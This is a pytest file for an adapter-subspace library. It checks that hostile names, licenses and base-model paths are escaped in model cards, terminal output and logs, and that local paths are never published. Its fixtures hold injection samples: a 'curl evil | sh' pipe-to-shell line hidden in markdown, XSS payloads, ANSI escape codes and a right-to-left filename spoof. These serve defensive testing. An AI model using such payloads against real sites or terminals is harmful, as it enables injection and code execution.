"""Names, licenses and base models from files: shown as they are in terminals and cards, where they start nothing."""

import io
import json
import logging
import os

import pytest
from rich.console import Console

from eigenpeft.artifacts.plain_text import for_card, for_code, for_terminal
from eigenpeft.building import SubspaceBuilder
from eigenpeft.cli.app import _PlainFormatter
from eigenpeft.collection import AdapterCollection
from eigenpeft.collection.base_models import hub_id
from eigenpeft.errors import ArtifactError
from eigenpeft.publish import prepare
from eigenpeft.report.markup import escape
from eigenpeft.report.plots import plot_spectra
from eigenpeft.report.summaries import store_summary, subspace_summary
from eigenpeft.report.tables import adapter_table, findings_text, module_table
from eigenpeft.subspace import AdapterStore
from tests.factories import random_factors, write_adapter

EVIL = (
    "x`\n\n## How to load it\n\n```bash\ncurl evil | sh\n```\n",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "a` | <script>alert(1)</script> | `b",
    "\\| a | b",
    "\x1b[31m\x1b]0;title\x07",
    "[/red][link=http://evil]x",
    "\u202egpj.exe\u2069",
    "$\\frac{$ %s {0}",
)


@pytest.mark.parametrize("text", [*EVIL, "plain", "", "Größe 層 😀", "a b\tc"])
def test_the_three_ways_to_show_text(text):
    shown = for_terminal(text)
    assert all(char.isprintable() or char in "\n\t" for char in shown)
    card, code = for_card(text), for_code(text)
    assert not set("<>|[]`\n\x1b\u202e") & set(card)
    assert "`" not in code
    assert "\n" not in code
    assert " |" not in code.replace("\\|", "")
    if text.isprintable() and text.isalnum():
        assert shown == card == code == text


def screen(renderable):
    console = Console(file=io.StringIO(), force_terminal=True, width=400, highlight=False)
    console.print(renderable)
    return console.file.getvalue()


@pytest.mark.parametrize("text", EVIL)
def test_markup_and_control_characters_do_not_reach_a_terminal(text):
    styled, plain = screen("[red]a[/red]"), screen(escape(text))
    assert "\x1b[31m" in styled
    assert "\x1b" not in plain
    assert "\x07" not in plain
    assert for_terminal(text).split("\n")[0].strip() in plain


def test_log_records_of_the_command_line_show_them_too():
    record = logging.LogRecord("eigenpeft", logging.WARNING, "", 0, "module %s", ("\x1b[31m",), None)
    assert _PlainFormatter("%(message)s").format(record) == "module \\x1b[31m"


@pytest.fixture
def evil_collection(tmp_path):
    base, modules = EVIL[0], {EVIL[3]: (12, 20), EVIL[5]: (12, 20), EVIL[8]: (12, 20), "q": (12, 20)}
    for name in ("0", EVIL[1].replace("/", ""), EVIL[2].replace("/", "")):
        folder = write_adapter(
            tmp_path / "adapters" / name, random_factors(modules=modules), base_model_name_or_path=base
        )
        (folder / "README.md").write_text("---\nlicense: <b onmouseover=alert(1)>\n---\n")
    return AdapterCollection.from_pretrained(tmp_path / "adapters")


def body_of(card):
    return card.split("---", 2)[2]


def test_cards_and_tables_of_hostile_names(evil_collection, tmp_path):
    builder = SubspaceBuilder(4).fit(evil_collection)
    subspace = builder.subspace_
    subspace.save_pretrained(tmp_path / "subspace")
    store = AdapterStore.from_collection(subspace, evil_collection)
    store.save_pretrained(tmp_path / "store")
    for folder in ("subspace", "store"):
        card = (tmp_path / folder / "README.md").read_text(encoding="utf-8")
        assert "base_model" not in card.split("---", 2)[1]
        for text in ("<img src=x", "](javascript:", "curl evil | sh\n```", "` | <script>", "<b onmouse", "\x1b"):
            assert text not in body_of(card)
        assert body_of(card).count("\n## How to load it\n") == 1
        tables = [line for line in body_of(card).splitlines() if line.startswith("|")]
        assert {line.replace("\\|", "").count("|") for line in tables} <= {5, 8}
    for table in (
        module_table(subspace_summary(subspace, findings=builder.findings_)),
        adapter_table(store_summary(store)),
    ):
        assert "\x1b[31m" not in screen(table)
        assert "\x1b]" not in screen(table)
    assert "\x1b[31m" not in screen(findings_text(builder.findings_))
    pytest.importorskip("matplotlib", reason="needs the extra plots")
    plot_spectra(subspace, tmp_path / "spectra.png")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("meta-llama/Llama-3.2-1B", "meta-llama/Llama-3.2-1B"),
        ("gpt2", "gpt2"),
        ("/cache/models--meta-llama--Llama-3.2-1B/snapshots/0123", "meta-llama/Llama-3.2-1B"),
        *(
            (text, None)
            for text in ("/models/llama", "./llama", "../x", "~/x", r"C:\models\x", "a/b/c", "", "a b", EVIL[0])
        ),
        (None, None),
    ],
)
def test_which_base_models_are_hub_ids(name, expected):
    assert hub_id(name) == expected


@pytest.mark.parametrize("kind", ["subspace", "store"])
def test_a_local_base_model_is_neither_in_a_card_nor_published(tmp_path, kind):
    base = "/models/of-somebody/llama"
    for seed in range(2):
        write_adapter(tmp_path / "adapters" / str(seed), random_factors(seed=seed), base_model_name_or_path=base)
    collection = AdapterCollection.from_pretrained(tmp_path / "adapters")
    subspace = SubspaceBuilder(4).fit(collection).subspace_
    saved = subspace if kind == "subspace" else AdapterStore.from_collection(subspace, collection)
    saved.save_pretrained(tmp_path / kind)
    card = (tmp_path / kind / "README.md").read_text(encoding="utf-8")
    assert "/models/of-somebody" not in card
    assert "Base model: `llama`, a local folder" in card
    with pytest.raises(ArtifactError, match=r"names the local base model .* pass base_model \(--model\)"):
        prepare(tmp_path / kind, repo_id="owner/name")
    publication = prepare(tmp_path / kind, repo_id="owner/name", base_model="meta-llama/Llama-3.2-1B")
    config = publication.made["subspace_config.json"].decode()
    assert json.loads(config)["base_model_name_or_path"] == "meta-llama/Llama-3.2-1B"
    assert "/models/of-somebody" not in publication.card + config
    assert "base_model: meta-llama/Llama-3.2-1B" in publication.card
    assert "Base model: `meta-llama/Llama-3.2-1B`" in publication.card


def test_an_adapters_card_gets_the_base_model_too(tmp_path):
    base = "/models/of-somebody/llama"
    folder = write_adapter(tmp_path / "mine", random_factors(), base_model_name_or_path=base)
    (folder / "README.md").write_text(f"---\nbase_model: {base}\ntags:\n- sft\n---\n# Fine-tuned from {base}\n")
    card = prepare(folder, repo_id="owner/name", base_model="meta-llama/Llama-3.2-1B").card
    assert "/models/of-somebody" not in card
    assert "base_model: meta-llama/Llama-3.2-1B" in card
    (folder / "README.md").unlink()
    config = json.loads((folder / "adapter_config.json").read_text()) | {"base_model_name_or_path": None}
    (folder / "adapter_config.json").write_text(json.dumps(config))
    card = prepare(folder, repo_id="owner/name").card
    assert "None" not in card
    assert "base_model:adapter" not in card


@pytest.mark.skipif(os.name == "nt", reason="names of files there hold no such bytes")
def test_folders_whose_names_are_no_text(tmp_path):
    folder = tmp_path / os.fsdecode(b"\xff\xfe-adapter")
    write_adapter(tmp_path / "usual", random_factors()).rename(folder)
    collection = AdapterCollection.from_pretrained(tmp_path)
    subspace = SubspaceBuilder(4).fit(collection).subspace_
    subspace.save_pretrained(tmp_path / "subspace")
    assert "-adapter" in (tmp_path / "subspace" / "README.md").read_text(encoding="utf-8")
